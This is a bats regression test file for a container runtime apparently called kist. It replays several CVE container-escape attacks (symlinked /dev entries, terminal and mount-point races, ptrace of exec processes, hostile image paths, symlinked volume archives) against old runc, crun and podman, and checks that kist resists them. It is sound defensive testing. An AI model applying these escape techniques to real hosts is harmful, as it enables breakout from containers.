#!/usr/bin/env bats
# The attacks of 310-attacks on versions of other engines that do not withstand them: what is tried against this one works
# where it can. Each test makes the same attack twice, on a peer, where it must succeed, and on this engine, where it must
# not. A victim is always a file of the test, or a sysctl of the container's own IPC namespace.
load helpers

setup()
{
	kist_only
	need runc crun podman jq
	new_store
	OCI=${KIST%/*}/kist-oci
	[ -x "$OCI" ] || OCI="$KIST oci"
	ATTACK=$E2E_CACHE/attack
	[ -x "$ATTACK/stalk" ] || {
		[ -z "${KIST_TEST_FULL:-}" ] || fail 'the attackers were not built'
		skip 'no compiler for the attackers'
	}
	mkdir -p "$STORE/outside" "$STORE/bundle/rootfs"
	CANARY=$STORE/outside/canary
	echo 'canary of the host' >"$CANARY"
	B=$STORE/bundle
	R=$B/rootfs
	tar -C "$R" -xf "$E2E_CACHE/busybox.tar"
}

teardown()
{
	is_podman && return 0
	[ -n "${STORE:-}" ] || return 0
	sweep
	find "$CGROUP" -mindepth 1 -depth -type d ! -path "$CGROUP/harness*" -exec rmdir {} + 2>/dev/null
	[ ! -e "$STORE" ]
}

# weak PROGRAM VERSION: these attacks were closed in later ones, and a peer that withstands them would prove nothing.
weak()
{
	local version
	version=$("$1" --version | sed -nE '1s/[^0-9]*([0-9.]+).*/\1/p')
	[ "$version" = "$2" ] || {
		[ -z "${KIST_TEST_FULL:-}" ] || fail "$1 is $version: wanted $2 of Debian 12"
		skip "$1 is $version, not $2 of Debian 12"
	}
}

# plan SHELL-TEXT [JQ-FILTER]: config.json of the bundle, without limits, which a machine may lack.
plan()
{
	rm -f "$B/config.json"
	(cd "$B" && runc spec)
	jq --arg text "$1" ".process.terminal = false | .root.readonly = false | del(.process.rlimits, .linux.resources)
		| .process.args = [\"sh\", \"-c\", \$text] | ${2:-.}" "$B/config.json" >"$B/new" && mv "$B/new" "$B/config.json"
}

# own_dev: without the mounts that give a container its /dev.
own_dev='del(.mounts[] | select(.destination | startswith("/dev")))'

# oci RUNTIME ARGUMENT...
oci()
{
	local runtime=$1
	shift
	[ "$runtime" != kist ] || runtime=$OCI
	# shellcheck disable=SC2086 # 'kist oci' are two words
	timeout --foreground -k 5 30 $runtime --root "$STORE/run-${runtime##*/}" "$@"
}

# bundle RUNTIME: runs it to its end. Its code is no proof of anything.
bundle()
{
	oci "$1" run --bundle "$B" "x$BATS_TEST_NUMBER-$1" </dev/null 2>&1 3>&- || true
}

# terminal_bundle RUNTIME: the same with a terminal.
terminal_bundle()
{
	local runtime=$1
	[ "$runtime" != kist ] || runtime=$OCI
	timeout -k 5 30 script -qec "$runtime --root $STORE/run-${runtime##*/} run --bundle $B x$BATS_TEST_NUMBER-$1" /dev/null \
		</dev/null 2>&1 3>&- || true
}

# outside: what there is beside the canary.
outside()
{
	find "$STORE/outside" -mindepth 1 ! -name canary -printf '%f %y %u\n' | sort
}

# swapper DIRECTORY NAME NAME: swaps them until 'swapped'.
swapper()
{
	"$ATTACK/swap" "$1" "$2" "$3" 120 >/dev/null 3>&- &
	SWAPPER=$!
}

swapped()
{
	kill "$SWAPPER"
	wait "$SWAPPER" || true
}

# by_chance RUNTIME ATTEMPT: until it returns 0, at most 60 times; says how often it was tried.
by_chance()
{
	local i
	for ((i = 1; i <= ${3:-60}; i++)); do
		"$2" "$1" || continue
		echo "# $1: $2 won at attempt $i" >&3
		return 0
	done
	return 1
}

@test "CVE-2025-31133: /dev/null is a link to a sysctl, and what is masked by it can be written: runc" {
	weak runc 1.1.5
	mkdir "$STORE/dev"
	ln -s /proc/sys/kernel/shm_rmid_forced "$STORE/dev/null"
	plan 'cat /proc/sys/kernel/shm_rmid_forced; echo 1 >/proc/keys; cat /proc/sys/kernel/shm_rmid_forced' \
		"$own_dev | del(.linux.readonlyPaths)
		| .mounts += [{destination: \"/dev\", type: \"bind\", source: \"$STORE/dev\", options: [\"rbind\"]}]"
	equal $'0\n1' "$(bundle runc)" 'the sysctl, before and after'
	run bundle kist
	contains "$output" 'masked path /proc/keys: /dev/null of the container'
}

# A tmpfs for the image's /data, filled from what lies there: the sysctl of the plan is written to its copy of the file. A
# second procfs tells what the kernel has.
@test "CVE-2025-52881: a link of the image puts a tmpfs over /proc/sys, and a sysctl is written there: runc" {
	weak runc 1.1.5
	mkdir "$R/proc2"
	rm -rf "$R/data"
	ln -s /proc/sys/fs/mqueue "$R/data"
	plan 'cat /proc/sys/fs/mqueue/msg_max; echo; cat /proc2/sys/fs/mqueue/msg_max' ".linux.sysctl = {\"fs.mqueue.msg_max\": \"33\"}
		| .mounts += [{destination: \"/proc2\", type: \"proc\", source: \"proc\"},
			{destination: \"/data\", type: \"tmpfs\", source: \"tmpfs\", options: [\"tmpcopyup\"]}]"
	equal $'33\n10' "$(bundle runc)" 'the copy, and the kernel'
	equal $'10\n\n33' "$(bundle kist)" 'the copy, and the kernel'
}

# A terminal whose name is the sysctl when it is mounted on /dev/console, and itself when it becomes the controlling one.
console_is_sysctl()
{
	terminal_bundle "$1" >"$STORE/out"
	grep -q 'shm_rmid_forced /dev/console rw' "$STORE/out"
}

@test "CVE-2025-52565: a terminal is swapped for a sysctl, which /dev/console then is: runc" {
	weak runc 1.1.5
	mkdir -p "$STORE/dev/pts" "$R/other"
	ln -s /other/ptmx "$STORE/dev/ptmx"
	ln -s /other/0 "$STORE/dev/pts/0"
	ln -s /proc/sys/kernel/shm_rmid_forced "$STORE/dev/pts/x"
	: >"$STORE/dev/console"
	mknod -m 666 "$STORE/dev/null" c 1 3
	mknod -m 666 "$STORE/dev/tty" c 5 0
	plan 'grep console /proc/self/mountinfo' "$own_dev | .process.terminal = true | .mounts += [
		{destination: \"/dev\", type: \"bind\", source: \"$STORE/dev\", options: [\"rbind\"]},
		{destination: \"/other\", type: \"devpts\", source: \"devpts\", options: [\"newinstance\", \"ptmxmode=0666\"]}]"
	swapper "$STORE/dev/pts" 0 x
	by_chance runc console_is_sysctl
	run by_chance kist console_is_sysctl 15
	swapped
	equal 1 "$status"
	lacks "$(cat "$STORE/out")" shm_rmid_forced
}

@test "CVE-2026-41579, CVE-2026-47766: /dev of the root file system is a link to the host: runc, crun" {
	weak runc 1.1.5
	weak crun 1.8.1
	rm -rf "${R:?}/dev"
	ln -s "$STORE/outside" "$R/dev"
	plan 'echo in'
	bundle runc >"$STORE/out"
	contains "$(outside)" 'ptmx l root'
	find "$STORE/outside" -mindepth 1 ! -name canary -delete
	bundle crun >"$STORE/out"
	contains "$(outside)" 'random c root'
	find "$STORE/outside" -mindepth 1 ! -name canary -delete
	bundle kist >"$STORE/out"
	equal '' "$(outside)" 'made on the host'
}

@test "CVE-2026-88264, CVE-2026-88265: /dev/console and /dev/null are links where nothing is mounted on /dev: crun, runc" {
	weak runc 1.1.5
	weak crun 1.8.1
	ln -sfn "$STORE/outside/made" "$R/dev/console"
	plan 'echo in' "$own_dev | .process.terminal = true"
	terminal_bundle crun >"$STORE/out"
	contains "$(outside)" 'made f root'
	rm "$STORE/outside/made"
	terminal_bundle kist >"$STORE/out"
	equal '' "$(outside)" 'made on the host'
	# The standard output, a pipe, is taken for the null device and replaced by the file that the link names.
	rm "$R/dev/console"
	: >"$R/etc/taken"
	ln -sfn /etc/taken "$R/dev/null"
	plan 'echo written' "$own_dev"
	equal '' "$(bundle runc)" 'output of runc'
	equal '' "$(bundle crun)" 'output of crun'
	contains "$(cat "$R/etc/taken")" written
	: >"$R/etc/taken"
	run bundle kist
	equal '' "$(cat "$R/etc/taken")" "written by kist ($output)"
}

@test "CVE-2026-30892: a user's number that does not fit is root: runc, crun" {
	local runtime
	weak runc 1.1.5
	weak crun 1.8.1
	plan 'exec sleep 60'
	for runtime in runc crun kist; do
		oci $runtime run --detach --bundle "$B" "x$runtime" </dev/null >"$STORE/out" 2>&1 3>&-
		run oci $runtime exec --user 4294967296 "x$runtime" id -u
		case $runtime in
		kist) contains "$output" 4294967296 && [ "$status" -ne 0 ] ;;
		*) equal 0 "$output" "user of $runtime" ;;
		esac
		oci $runtime delete -f "x$runtime"
	done
}

# A directory that becomes a link to the host between the check of a mount point's path and its making.
made_outside()
{
	ROUND=$((ROUND + 1))
	jq --arg round "$ROUND" --arg deep "$(printf 'd/%.0s' {1..100})" --arg payload "$STORE/payload" '.mounts += [range(5)
		| {destination: "/shared/a/m\($round)-\(.)/\($deep)", type: "bind", source: $payload, options: ["rbind"]}]' \
		"$B/config.json" >"$B/new"
	cp "$B/config.json" "$B/old"
	mv "$B/new" "$B/config.json"
	bundle "$1" >"$STORE/out"
	mv "$B/old" "$B/config.json"
	[ -n "$(outside)" ]
}

@test "CVE-2024-45310: directories are made on the host while a link is swapped: runc" {
	weak runc 1.1.5
	ROUND=0
	mkdir -p "$STORE/shared/a" "$STORE/payload"
	ln -s "$STORE/outside" "$STORE/shared/b"
	plan true ".mounts += [{destination: \"/shared\", type: \"bind\", source: \"$STORE/shared\", options: [\"rbind\"]}]"
	swapper "$STORE/shared" a b
	by_chance runc made_outside
	find "$STORE/outside" -mindepth 1 ! -name canary -delete
	run by_chance kist made_outside 15
	swapped
	equal 1 "$status"
	equal '' "$(outside)" 'made on the host'
}

@test "CAP_SYS_PTRACE: a process of exec is stopped while it may more than the container: runc, crun" {
	local runtime container tries
	weak runc 1.1.5
	weak crun 1.8.1
	cp "$ATTACK/stalk" "$R/stalk"
	plan "exec /stalk 2 $CANARY $(stat -c %d:%i "$KIST")" '.process.capabilities[] += ["CAP_SYS_PTRACE"]'
	for runtime in runc crun kist; do
		bundle $runtime >"$STORE/out" &
		container=$!
		tries=0
		while kill -0 "$container" 2>/dev/null; do
			oci $runtime exec "x$BATS_TEST_NUMBER-$runtime" true && tries=$((tries + 1))
		done >/dev/null 2>&1
		wait "$container"
		[ "$tries" -ge 2 ] || fail "$runtime: only $tries processes were attacked: $(cat "$STORE/out")"
		case $runtime in
		kist) contains "$(cat "$STORE/out")" $'\nricher 0\n' ;;
		*) matches 'richer [1-9]' "$(cat "$STORE/out")" ;;
		esac
	done
}

# podman ARGUMENT..., run and create with what a machine may lack taken away.
peer_podman()
{
	local command=$1 options=()
	shift
	[ "$command" != run ] ||
		options=(--ulimit nofile=1024:1024 --ulimit nproc=1000:1000 --pids-limit 0 --network none)
	timeout -k 5 60 podman --log-level error --runtime runc --cgroup-manager cgroupfs --storage-driver overlay \
		--root "$STORE/podman" --runroot "$STORE/podman-run" --tmpdir "$STORE/podman-run/tmp" "$command" "${options[@]}" "$@"
}

# hostile_image CONFIG-JSON [PATH...]: the image 'hostile' for both: busybox, with these files of the store added.
hostile_image()
{
	local dir=$STORE/archive config=$1 diff
	shift
	mkdir -p "$dir"
	cp "$E2E_CACHE/busybox.tar" "$dir/layer.tar"
	[ $# -eq 0 ] || tar -C "$STORE" -rf "$dir/layer.tar" "$@"
	diff=$(sha256sum <"$dir/layer.tar" | cut -d ' ' -f 1)
	jq -n --argjson config "$config" --arg diff "sha256:$diff" \
		'{architecture:"amd64",os:"linux",config:$config,rootfs:{type:"layers",diff_ids:[$diff]},history:[]}' >"$dir/config.json"
	echo '[{"Config":"config.json","RepoTags":["localhost/hostile:latest"],"Layers":["layer.tar"]}]' >"$dir/manifest.json"
	tar -C "$dir" -cf "$STORE/image.tar" manifest.json config.json layer.tar
	peer_podman load -q -i "$STORE/image.tar" >/dev/null
	kist load -q -i "$STORE/image.tar" >/dev/null
}

@test "CVE-2026-57231, CVE-2026-55686, system calls: an image's environment and working directory, vsock, AF_ALG, cgroups: podman" {
	weak podman 4.3.1
	export ATTACK_SECRET='canary of the host'
	ln -s "$STORE/outside" "$STORE/work"
	hostile_image '{"Cmd":["sh"],"Env":["PATH=/bin","ATTACK_SECRET"],"User":"1000","WorkingDir":"/work/made"}' work
	run peer_podman run --rm hostile env
	equal 'made d 1000' "$(sed -E 's/ [^ ]*$/ 1000/' <<<"$(outside)")" "made by podman ($output)"
	equal 1000 "$(stat -c %u "$STORE/outside/made")"
	rmdir "$STORE/outside/made"
	run kist run --rm hostile env
	equal '' "$(outside)" 'made on the host'
	contains "$(peer_podman run --rm -w / hostile env)" 'canary of the host'
	run kist run --rm -w / hostile env
	lacks "$output" 'canary of the host'
	# The family may be unknown to the kernel, which then says so (97): the filter has let it pass.
	run -0 peer_podman run --rm -w / -u 0 -v "$ATTACK:/attack:ro" hostile /attack/syscalls
	matches 'af_alg (DONE|97)' "$output"
	matches 'af_vsock (DONE|97)' "$output"
	contains "$output" 'user-unshare-cgroup DONE'
	contains "$output" 'user-cgroup-mkdir DONE'
	contains "$output" 'user-cgroup-write DONE'
	kist rmi -f hostile >/dev/null
	hostile_image '{"Cmd":["sh"]}'
	run -0 kist run --rm -v "$ATTACK:/attack:ro" hostile /attack/syscalls
	equal 'end DONE' "$(grep DONE <<<"$output")"
}

@test "CVE-2025-11395, CVE-2024-9676, terminal escapes: archives of volumes, a FIFO for passwd, ps: podman" {
	weak podman 4.3.1
	local escape=$'\e]0;attack\a'
	hostile_image '{"Cmd":["sh"]}'
	# A link to the host, and a file through it.
	mkdir "$STORE/dir"
	echo evil >"$STORE/dir/canary"
	ln -s "$STORE/outside" "$STORE/link"
	tar -C "$STORE" -cf "$STORE/link.tar" link
	tar -C "$STORE" --transform 's,^dir,link,' -rf "$STORE/link.tar" dir/canary
	kist volume create v >/dev/null
	run kist volume import v "$STORE/link.tar"
	equal 'canary of the host' "$(cat "$CANARY")"
	peer_podman volume create v >/dev/null
	run -0 peer_podman volume import v "$STORE/link.tar"
	equal evil "$(cat "$CANARY")" 'the canary, after the import by podman'
	kist run -d --name c hostile sh -c 'exec sleep 60' "$escape" >/dev/null
	lacks "$(kist ps -a --no-trunc)" "$escape"
	peer_podman run -d --name c hostile sh -c 'exec sleep 60' "$escape" >/dev/null 3>&-
	contains "$(peer_podman ps -a --no-trunc)" "$escape"
	peer_podman rm -f -t 0 c >/dev/null
	kist rm -f -t 0 c >/dev/null
	# One waits until somebody writes to it, the other says what is wrong.
	rm "$R/etc/passwd"
	mkfifo "$R/etc/passwd"
	run -125 kist run --rm -u user --rootfs "$R" true
	run -124 timeout 4 podman --log-level error --runtime runc --cgroup-manager cgroupfs --root "$STORE/podman" --runroot "$STORE/podman-run" \
		--tmpdir "$STORE/podman-run/tmp" run --rm --network none -u user --rootfs "$R" true
}
